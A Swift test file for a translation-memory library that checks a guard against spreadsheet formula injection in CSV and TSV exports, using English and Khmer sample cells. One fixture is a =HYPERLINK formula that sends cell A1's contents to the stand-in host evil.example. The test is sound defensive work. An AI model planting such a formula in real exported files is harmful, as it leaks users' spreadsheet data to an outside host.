import Foundation
import Testing
import VerbaleCore
@testable import VerbaleFormats

/// Review 30 Nov, m19: a CSV/TSV export must not hand spreadsheets formulas to run.
@Suite("Spreadsheet formula guard in TSV and CSV")
struct FormulaGuardTests {
    /// Texts a spreadsheet would run or mangle, and their neighbours that must stay untouched.
    static let texts: [(en: String, km: String)] = [
        ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "=1+1"),
        ("- the Embassy's note", "- ក្រសួង\u{200B}ការបរទេស"),
        ("+855 23 123 456", "+៨៥៥ ២៣ ១២៣ ៤៥៦"),
        ("@mfa.gov.kh", "ស្ថានទូត\u{200B}សូម\u{200B}គោរព។"),
        ("\tindented", "\r\nក្រសួង"),
        ("'-ism' is a suffix", "''=already marked"),
        ("'quoted' text", "ព្រះរាជាណាចក្រ\u{200B}កម្ពុជា"),
    ]

    static var units: [TranslationUnit] {
        texts.map { TranslationUnit(variants: [Variant(language: LanguageTag(.english), text: $0.en),
                                               Variant(language: LanguageTag(.khmer), text: $0.km)]) }
    }

    @Test("Cells starting with = + - @, a tab or CR are written with a leading apostrophe, and read back as they were",
          arguments: [MemoryFormat.tsv, .csv])
    func guardedRoundTrip(format: MemoryFormat) throws {
        let data = try write(Self.units, as: format)
        let text = String(decoding: data, as: UTF8.self)
        // The formula starts its row, behind the apostrophe (in CSV inside the quotes it needs).
        #expect(text.contains(format == .tsv ? "\n'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")\t"
                                             : "\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","), "\(text)")
        #expect(text.contains("'=1+1"))
        #expect(text.contains("'- the Embassy's note") && text.contains("'- ក្រសួង\u{200B}ការបរទេស"))
        #expect(text.contains("'+855 23 123 456") && text.contains("'+៨៥៥ ២៣ ១២៣ ៤៥៦"))
        #expect(text.contains("'@mfa.gov.kh"))
        #expect(text.contains("''-ism' is a suffix") && text.contains("'''=already marked"))
        // Untouched: an apostrophe before ordinary text, and plain Khmer.
        #expect(text.contains("'quoted' text") && !text.contains("''quoted"))
        #expect(!text.contains("'ស្ថានទូត"))
        let back = try read(data, as: format).units
        #expect(back.map { $0.text("en") } == Self.texts.map(\.en))
        #expect(back.map { $0.text("km") } == Self.texts.map(\.km))
    }

    @Test("With the guard off the cells are written bare", arguments: [MemoryFormat.tsv, .csv])
    func guardOff(format: MemoryFormat) throws {
        let sink = ByteSink()
        var writer = try format.makeWriter(sink: sink, languages: [LanguageTag(.english), LanguageTag(.khmer)], formulaGuard: false)
        for unit in Self.units { try writer.write(unit) }
        try writer.finish()
        let text = String(decoding: sink.data, as: UTF8.self)
        #expect(text.contains("\n=HYPERLINK(") || text.contains("\n\"=HYPERLINK("))
        #expect(!text.contains("'=1+1") && !text.contains("'+855"))
    }

    @Test("A spreadsheet's apostrophe before = + - @ is its text marker: reading removes it, and only there")
    func readerRemovesSpreadsheetMarker() throws {
        let table = "en\tkm\n'+855 23 123 456\t'- ក្រសួង\u{200B}ការបរទេស\n'Embassy' style\tស្ថានទូត\n"
        let units = try read(Data(table.utf8), as: .tsv).units
        #expect(units.map { $0.text("en") } == ["+855 23 123 456", "'Embassy' style"])
        #expect(units.map { $0.text("km") } == ["- ក្រសួង\u{200B}ការបរទេស", "ស្ថានទូត"])
    }

    @Test("The guard's rule: which cells need the apostrophe")
    func rule() {
        for cell in ["=1", "+1", "-1", "@x", "\tx", "\rx", "'=x", "''+x"] { #expect(FormulaGuard.needsGuard(cell), "\(cell)") }
        for cell in ["", "'", "x=1", "'x", "ក្រសួង", " -x", "１"] { #expect(!FormulaGuard.needsGuard(cell), "\(cell)") }
        #expect(FormulaGuard.unguarded(FormulaGuard.guarded("''+x")) == "''+x")
    }
}
